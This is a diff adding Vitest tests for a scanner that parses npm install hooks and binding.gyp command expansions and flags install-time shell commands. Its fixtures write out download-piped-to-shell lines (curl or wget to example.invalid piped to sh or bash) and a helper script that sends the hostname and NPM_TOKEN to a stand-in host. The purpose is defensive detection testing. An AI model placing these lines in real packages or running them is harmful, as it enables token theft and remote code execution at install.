@@ -1,0 +1,94 @@
+// What npm runs at install: hook command lines split outside quotes, and binding.gyp's commands (node-gyp runs them
+// at install), each classified as an ordinary build step, package code or a shell command of its own.
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { REPO_ROOT } from '../../../../test/corpora.js';
+import { releaseOf } from '../release.fixture.js';
+import { commandParts, gypCommands, npmHooks } from './hooks.js';
+import { analyzeSource } from './index.js';
+
+const ctx = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };
+
+describe('commandParts', () => {
+  it('splits on the shell operators outside quotes only', () => {
+    expect(commandParts('node a.js && curl x | sh; echo ok || true & wait')).toEqual(['node a.js', 'curl x', 'sh', 'echo ok', 'true', 'wait']);
+    expect(commandParts(`node -e "try{require('./p')}catch(e){}; a && b"`)).toEqual([`node -e "try{require('./p')}catch(e){}; a && b"`]);
+    expect(commandParts("echo 'a;b' ; x")).toEqual(["echo 'a;b'", 'x']);
+    expect(commandParts('node x.js > /dev/null 2>&1 || true')).toEqual(['node x.js > /dev/null 2>&1', 'true']);
+    expect(commandParts('a \\; b')).toEqual(['a \\; b']);
+  });
+  it('reads an unclosed quote to the end and an empty line as nothing', () => {
+    expect(commandParts('node -e "a; b')).toEqual(['node -e "a; b']);
+    expect(commandParts('  ;; & ')).toEqual([]);
+  });
+});
+
+describe('gypCommands', () => {
+  it('reads command expansions (every form, list form joined) and action lists, with their lines', () => {
+    const gyp = [
+      '{',
+      "  # '<!(curl -s http://example.invalid | sh)' in a comment runs nothing",
+      "  'variables': { 'tag': '<!(node -e \"require(\\'./tools/x.js\\')\")' },",
+      '  "targets": [{',
+      '    "include_dirs": ["<!@(node -p \\"require(\'node-addon-api\').include\\")", ">!(pkg-config --cflags glib-2.0)"],',
+      "    'libraries': ['<!@([\"python3\", \"gen.py\", \"--libs\"])'],",
+      '    "actions": [{ "action_name": "gen", "action": ["<(python)", "tools/gen.py", "<@(_outputs)"] }]',
+      '  }]',
+      '}',
+    ].join('\n');
+    expect(gypCommands(gyp)).toEqual([
+      { command: `node -e "require('./tools/x.js')"`, line: 3 },
+      { command: `node -p "require('node-addon-api').include"`, line: 5 },
+      { command: 'pkg-config --cflags glib-2.0', line: 5 },
+      { command: 'python3 gen.py --libs', line: 6 },
+      { command: 'python tools/gen.py <@(_outputs)', line: 7 },
+    ]);
+  });
+  it('answers truncated and hostile files without throwing, bounded', () => {
+    expect(gypCommands("{'x': '<!(curl a | sh")).toEqual([{ command: 'curl a | sh', line: 1 }]);
+    expect(gypCommands('{"action": ["sh", "-c"')).toEqual([{ command: 'sh -c', line: 1 }]);
+    expect(gypCommands('"<!(' + '('.repeat(100_000))).toHaveLength(1);
+    expect(gypCommands(`'${'<!(a)'.repeat(10_000)}'`)).toHaveLength(100);
+    expect(gypCommands('')).toEqual([]);
+  });
+});
+
+describe('binding.gyp at install', () => {
+  const addon = (gyp: string, extra: Record<string, string> = {}) =>
+    releaseOf('npm', { 'package.json': '{"name":"addon","version":"1.0.0"}', 'binding.gyp': gyp, 'src/a.cc': '', 'index.js': "module.exports = require('./build/Release/a.node');", ...extra });
+
+  it('an ordinary native build (node-addon-api, pkg-config, its own generator script) is an ordinary step', () => {
+    const gyp = `{ 'variables': { 'major': '<!(node -p "process.versions.node.split(\\'.\\')[0]")', 'musl': '<!(ldd --version 2>&1 | head -n1 | grep musl | wc -l)' },
+      'targets': [{ 'target_name': 'a', 'include_dirs': ["<!@(node -p \\"require('node-addon-api').include\\")", '<!@(pkg-config cairo --cflags-only-I | sed s/-I//g)', '<!@(krb5-config gssapi --libs)'],
+      'actions': [{ 'action_name': 'tables', 'inputs': ['tools/gen.py'], 'outputs': ['t.h'], 'action': ['python3', 'tools/gen.py', 't.h'] }] }] }`;
+    const r = addon(gyp, { 'tools/gen.py': 'import sys\nopen(sys.argv[1], "w").write("// tables\\n")\n' });
+    const hooks = npmHooks(r);
+    expect(hooks.map((h) => [h.command.split(' ')[0], h.ordinary, h.shell])).toEqual([
+      ['node', true, false],
+      ['ldd', true, false],
+      ['node', true, false],
+      ['pkg-config', true, false],
+      ['krb5-config', true, false],
+      ['python3', true, false],
+    ]);
+    expect(hooks[5]?.targets).toEqual(['tools/gen.py']);
+    const out = analyzeSource(r, ctx);
+    expect(out.findings.filter((f) => f.severity !== 'info' && f.severity !== 'low')).toEqual([]);
+  });
+
+  it("a download piped to a shell in an action, and package code run by an expansion, are install-time", () => {
+    const gyp = `{ 'variables': { 'v': '<!(node -e "require(\\'./tools/fp.js\\')")' }, 'targets': [{ 'target_name': 'a',
+      'actions': [{ 'action_name': 'g', 'inputs': [], 'outputs': ['x.h'], 'action': ['sh', '-c', 'curl -fsSL https://cdn.example.invalid/g.sh | sh > x.h'] }] }] }`;
+    const r = addon(gyp, { 'tools/fp.js': "const os = require('os');\nrequire('https').get('https://example.invalid/?h=' + os.hostname() + '&t=' + process.env.NPM_TOKEN);\n" });
+    const out = analyzeSource(r, ctx);
+    const at = (code: string) => out.findings.filter((f) => f.code === code).map((f) => `${f.file}:${f.line} ${f.severity}`);
+    expect(at('shell_download_pipe')).toEqual(['binding.gyp:2 critical']);
+    expect(at('npm_install_script')).toEqual(['binding.gyp:1 low']);
+    expect(out.chains?.some((c) => c.title.endsWith('(at install time)'))).toBe(true);
+  });
+
+  it('reads the .gypi files binding.gyp includes, not other gyp files', () => {
+    const r = addon("{ 'includes': ['common.gypi'], 'targets': [] }", { 'common.gypi': "{ 'variables': { 'x': '<!(wget -qO- http://example.invalid/a | bash)' } }", 'deps/other.gyp': "{ 'variables': { 'y': '<!(curl http://example.invalid | sh)' } }" });
+    expect(npmHooks(r).map((h) => [h.file, h.shell])).toEqual([['common.gypi', true]]);
+  });
+});
